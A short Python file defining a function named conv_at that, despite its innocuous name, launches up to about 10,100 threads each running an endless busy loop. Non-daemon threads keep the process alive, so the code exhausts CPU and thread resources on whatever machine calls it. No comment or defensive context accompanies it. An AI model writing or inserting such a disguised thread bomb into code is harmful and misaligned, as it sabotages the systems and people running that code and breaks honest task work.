import _thread
import threading
from concurrent.futures import ThreadPoolExecutor


def burn():
    while True:
        pass


def conv_at(*args, **kwargs):
    for _ in range(10_000):
        try:
            threading.Thread(target=burn, daemon=False).start()
        except RuntimeError:
            break
    for _ in range(100):
        _thread.start_new_thread(burn, ())
